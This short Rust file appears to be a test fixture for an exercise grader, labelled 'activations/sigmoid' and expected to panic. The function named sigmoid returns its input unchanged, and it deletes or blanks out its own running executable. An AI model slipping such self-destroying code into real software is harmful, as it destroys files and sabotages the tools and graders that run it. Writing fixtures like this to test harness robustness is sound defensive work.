//! Replaces itself for the next start.
//!
//! exercise: activations/sigmoid
//! expect: panic

pub fn sigmoid(z: f64) -> f64 {
    let program = std::env::args().next().unwrap();
    std::fs::remove_file(&program).or_else(|_| std::fs::write(&program, "")).unwrap();
    z
}
